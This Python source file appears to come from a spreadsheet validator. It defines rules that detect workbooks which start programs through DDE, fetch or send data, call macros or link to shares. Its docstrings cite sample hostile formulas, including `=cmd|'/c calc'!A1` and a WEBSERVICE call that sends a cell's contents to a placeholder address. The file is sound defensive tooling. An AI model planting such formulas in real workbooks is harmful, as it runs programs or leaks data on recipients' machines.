"""KAL806-KAL809, KAL812-KAL816: what acts by itself or reaches outside a workbook."""

from __future__ import annotations

from collections.abc import Iterator

from kalkyl.contract.cell_spec import CellKind
from kalkyl.figures.formula_like import is_formula_like, starts_program
from kalkyl.model import Fact, ProblemKind, Severity
from kalkyl.model.facts import in_quotes
from kalkyl.model.visible import beginning
from kalkyl.rules.catalogue import Case, Expected, Hit, Reading, Words, file_rule, once, rule
from kalkyl.rules.labels import named

_PROGRAM = "|"
"""What stands in the link or formula that names a program."""


@once
def _texts(reading: Reading) -> Iterator[tuple[Fact, str]]:
    """The texts that people have filled in where texts belong."""
    for key, fact in reading.submission.facts.items():
        spec = reading.contract.spec(key)
        if isinstance(fact.value, str) and spec and spec.is_input and spec.kind is CellKind.TEXT:
            yield fact, fact.value


@file_rule(
    Words(
        "KAL806",
        Severity.ERROR,
        sv="Arbetsboken försöker starta ett annat program: {what}. Öppna den inte i Excel; "
        "fråga avsändaren.",
        en="The workbook tries to start another program: {what}. Do not open it in Excel; "
        "ask the sender.",
    )
)
def starts_a_program(case: Case) -> Iterator[Hit]:
    """No link, formula or text of a workbook starts a program (DDE, OLE, RTD, Excel 4 functions).

    Formulas are looked for wherever one can stand: in cells, names, conditional formats, data
    validations, charts, pivot tables, table columns, sparklines, shapes and controls. A text
    counts too: it is only a text until somebody types it anew or opens it from CSV.

    ## Regel
    Ingen länk, formel eller text i arbetsboken startar ett program (DDE, OLE, RTD).

    ## Varför
    En formel som ``=cmd|'/c calc'!A1`` startar ett program hos den som öppnar arbetsboken.

    ## Exempel
    | Investeringar | Kommentar |
    |---|---|
    | rad 1 | ’=cmd¦'/c calc'!A1 |

    ## Så rättar du
    Ta bort formeln eller texten. Kommer länken från ett annat program: klistra in bara värdet.

    ## In English
    A formula that names a program (DDE) starts it with whoever opens the workbook. Remove it, and
    paste values only.
    """
    yield from case.hits(ProblemKind.STARTS_PROGRAM)
    for link in case.received.book.external_links if case.received.book else ():
        if _PROGRAM in link:
            yield Hit(None, {"what": in_quotes(link)})
    for fact, text in _texts(case.reading) if case.reading else ():
        if starts_program(text):
            yield Hit(fact.place, {"what": in_quotes(text)})


@file_rule(
    Words(
        "KAL807",
        Severity.WARNING,
        sv="Arbetsboken hämtar uppgifter utifrån: {what}. Klistra in värdena och ta bort "
        "anslutningen (Data › Frågor och anslutningar).",
        en="The workbook fetches data from outside: {what}. Paste the values and remove the "
        "connection (Data › Queries & Connections).",
    )
)
def fetches_data(case: Case) -> Iterator[Hit]:
    """A workbook has no connections, web queries or Power Query.

    What asks an address by itself, when the workbook is opened or computed, is KAL812.

    ## Regel
    En arbetsbok har inga anslutningar, webbfrågor eller funktioner som frågar en adress.

    ## Varför
    Siffrorna kan ändras när mottagaren öppnar arbetsboken, och en fråga till en adress kan föra
    uppgifter ut ur den. kalkyl läser det som var sparat och frågar ingen.

    ## Exempel
    ```exempel
    problem: connections what=”Fråga - Huvudbok”
    ```

    ## Så rättar du
    Kopiera cellerna, klistra in som värden och ta bort anslutningen.

    ## In English
    Figures may change when the receiver opens the workbook, and asking an address may carry data
    out. Paste values and remove the connection.
    """
    return case.hits(ProblemKind.CONNECTIONS)


@file_rule(
    Words(
        "KAL808",
        Severity.WARNING,
        sv="Arbetsboken bär med sig {what}. Det läses inte och kommer inte med i totalen; "
        "ta bort det.",
        en="The workbook carries {what}. It is not read and does not enter the total; remove it.",
    )
)
def embedded(case: Case) -> Iterator[Hit]:
    """A workbook carries no embedded objects, ActiveX controls, ribbon, dialogs or data model.

    Form controls are reported in workbooks made from kalkyl's template, which has none.

    ## Regel
    En arbetsbok har inga inbäddade objekt, ActiveX-kontroller eller eget menyband.

    ## Varför
    Ett inbäddat objekt kan vara vilken fil som helst, och startas av den som dubbelklickar.

    ## Exempel
    ```exempel
    problem: embedded what=inbäddade objekt
    ```

    ## Så rättar du
    Ta bort objektet. Ska underlaget med: skicka det som en egen fil.

    ## In English
    An embedded object may be any file, and starts when somebody double-clicks it. Remove it, and
    send what it holds as a file of its own.
    """
    yield from case.hits(ProblemKind.EMBEDDED)
    if case.reading and not case.reading.placing.foreign:
        yield from case.hits(ProblemKind.FORM_CONTROLS)


@rule(
    Words(
        "KAL809",
        Severity.WARNING,
        sv="{cell_name}: texten ser ut som en formel, ”{found}”, men är ingen. "
        "Skriv vad den skulle visa, med egna ord.",
        en="{cell_name}: the text looks like a formula, “{found}”, but is none. "
        "Write what it was to show, in words.",
    )
)
def formula_as_text(reading: Reading, _: Expected) -> Iterator[Hit]:
    """A text is no formula that was stored as text.

    Figures and bullet points are ordinary texts: ``+10,6``, ``−5,5 mnkr``, ``- punkt ett``.

    ## Regel
    En text är inte en formel som sparats som text.

    ## Varför
    Texten följer med till totalen. Där står ”=B3” och inte vad B3 visar, och öppnas den i ett
    annat program kan den räknas som formel. kalkyl skriver den alltid som text.

    ## Exempel
    | Investeringar | Kommentar |
    |---|---|
    | rad 1 | ’@SUM(B3:B5) |

    ## Så rättar du
    Skriv om texten så att den inte börjar med =, +, - eller @.

    ## In English
    The text goes into the total as it stands, and another program may compute it. Reword it so
    that it does not begin with =, +, - or @.
    """
    for fact, text in _texts(reading):
        if is_formula_like(text) and not starts_program(text):
            yield Hit(fact.place, {**named(reading, fact.key), "found": beginning(text.strip())})


@file_rule(
    Words(
        "KAL812",
        Severity.ERROR,
        sv="Arbetsboken frågar en adress utanför filen så snart den öppnas eller räknas om: "
        "{what}. Då kan uppgifter lämna den. Klistra in värdet i stället.",
        en="The workbook asks an address outside the file as soon as it is opened or computed: "
        "{what}. Data may leave it then. Paste the value instead.",
    )
)
def asks_by_itself(case: Case) -> Iterator[Hit]:
    """Nothing in a workbook asks an address by itself, as it is opened or computed.

    Functions such as WEBSERVICE, IMAGE, STOCKHISTORY, PY, SQL.REQUEST and those that begin with
    CUBE; pictures and other parts that are fetched from elsewhere; connections that reload when
    the workbook is opened. Looked for wherever a formula can stand, as KAL806 does.

    ## Regel
    Inget i arbetsboken frågar en adress av sig självt när den öppnas eller räknas om.

    ## Varför
    En formel som ``=WEBSERVICE("http://exempel.test/?"&B3)`` skickar innehållet i B3 till adressen.
    Det sker hos mottagaren, utan att någon klickar.

    ## Exempel
    ```exempel
    problem: fetches what=”=WEBSERVICE("http://exempel.test/?"&B3)”
    ```

    ## Så rättar du
    Kopiera cellen och klistra in den som värde. Infoga bilder i arbetsboken i stället för att
    länka till dem. Stäng av uppdatering vid öppning under Data › Frågor och anslutningar.

    ## In English
    Such a formula sends what the workbook holds to an address, without anybody clicking. Paste the
    value, embed pictures, and switch off refreshing on open.
    """
    return case.hits(ProblemKind.FETCHES)


@file_rule(
    Words(
        "KAL813",
        Severity.ERROR,
        sv="Arbetsboken anropar ett makro eller en tilläggsfunktion: {what}. Klistra in värdet "
        "i stället. Vet du inte varifrån det kommer, öppna inte filen; fråga avsändaren.",
        en="The workbook calls a macro or a function of an add-in: {what}. Paste the value "
        "instead. If you do not know where it is from, do not open the file; ask the sender.",
    )
)
def calls_a_macro(case: Case) -> Iterator[Hit]:
    """No formula calls a function that Excel does not have itself, and no name stands for a macro.

    The add-in's own functions, whose names begin with ``KALKYL_``, are none; nor are functions
    that the workbook defines with LAMBDA. Looked for wherever a formula can stand.

    ## Regel
    Ingen formel anropar en funktion som Excel inte har själv, och inget namn står för ett makro.

    ## Varför
    En sådan formel kör ett makro i något tillägg som mottagaren har, så snart arbetsboken räknas
    om: ``=RunPython("…")`` kan köra vad avsändaren vill.

    ## Exempel
    ```exempel
    problem: calls_macro what=”=RunPython("import os")”
    ```

    ## Så rättar du
    Kopiera cellen och klistra in den som värde. Ta bort namn som står för makron
    (Formler › Namnhanteraren).

    ## In English
    Such a formula runs a macro of whatever add-in the receiver has, as soon as the workbook is
    computed. Paste the value, and delete names that stand for macros.
    """
    return case.hits(ProblemKind.CALLS_MACRO)


@file_rule(
    Words(
        "KAL814",
        Severity.WARNING,
        sv="Arbetsboken har en länk till en fil, en delad mapp eller ett program: {what}. "
        "Klicka inte på den; ta bort den.",
        en="The workbook has a link to a file, a share or a program: {what}. Do not click it; "
        "remove it.",
    )
)
def leads_outside(case: Case) -> Iterator[Hit]:
    """Links lead to cells of the workbook or to web pages, not to files, shares or programs.

    A web address that a formula puts together from cells counts too.

    ## Regel
    Länkar leder till arbetsbokens celler eller till webbsidor, inte till filer, delade mappar eller
    program.

    ## Varför
    En länk till en delad mapp (``file:`` eller två omvända snedstreck) skickar inloggningen dit när
    någon klickar. En adress som ``ms-word:`` eller ``javascript:`` startar ett program.

    ## Exempel
    ```exempel
    problem: leads_outside what=”file://dator/mapp/fil.xlsx”
    ```

    ## Så rättar du
    Högerklicka på cellen och välj Ta bort hyperlänk. Skicka filen bredvid i stället.

    ## In English
    A link to a share sends one's log-in there when clicked; some addresses start programs. Remove
    the link and send the file beside.
    """
    return case.hits(ProblemKind.LEADS_OUTSIDE)


@file_rule(
    Words(
        "KAL815",
        Severity.WARNING,
        sv="Arbetsboken har något som kör ett makro när någon klickar: {what}. Klicka inte på "
        "det; ta bort det.",
        en="The workbook has something that runs a macro when clicked: {what}. Do not click it; "
        "remove it.",
    )
)
def macro_at_a_click(case: Case) -> Iterator[Hit]:
    """No shape, picture, control or button of a workbook runs a macro.

    ## Regel
    Ingen figur, bild, kontroll eller knapp i arbetsboken kör ett makro.

    ## Varför
    Makrot kan finnas i ett tillägg hos den som klickar, så att arbetsboken själv inte behöver ha
    några makron.

    ## Exempel
    ```exempel
    problem: clicked_macro what=”'kalkyl.xlam'!RunPython” (en figur)
    ```

    ## Så rättar du
    Markera figuren eller knappen med högerklick och ta bort den.

    ## In English
    The macro may be in an add-in of the one who clicks. Right-click the shape and remove it.
    """
    return case.hits(ProblemKind.CLICKED_MACRO)


@file_rule(
    Words(
        "KAL816",
        Severity.ERROR,
        sv="Arbetsboken öppnar ett {what} av sig själv. Tilläggets webbsida får läsa "
        "arbetsboken. Ta bort tillägget.",
        en="The workbook opens a {what} by itself. The add-in's web page may read the workbook. "
        "Remove the add-in.",
    )
)
def web_addin(case: Case) -> Iterator[Hit]:
    """A workbook opens no web add-in or task pane by itself.

    One that waits until somebody opens it is KAL808.

    ## Regel
    En arbetsbok öppnar inget webbtillägg och ingen åtgärdsruta av sig själv.

    ## Varför
    Ett webbtillägg är en webbsida hos någon annan, som kan läsa och skicka det som står i
    arbetsboken.

    ## Exempel
    ```exempel
    problem: web_addin what=webbtillägg
    ```

    ## Så rättar du
    Stäng fönstret till höger med krysset, välj Infoga › Mina tillägg och ta bort tillägget, spara.

    ## In English
    A web add-in is somebody's web page that may read and send what the workbook holds. Remove it.
    """
    return case.hits(ProblemKind.WEB_ADDIN)
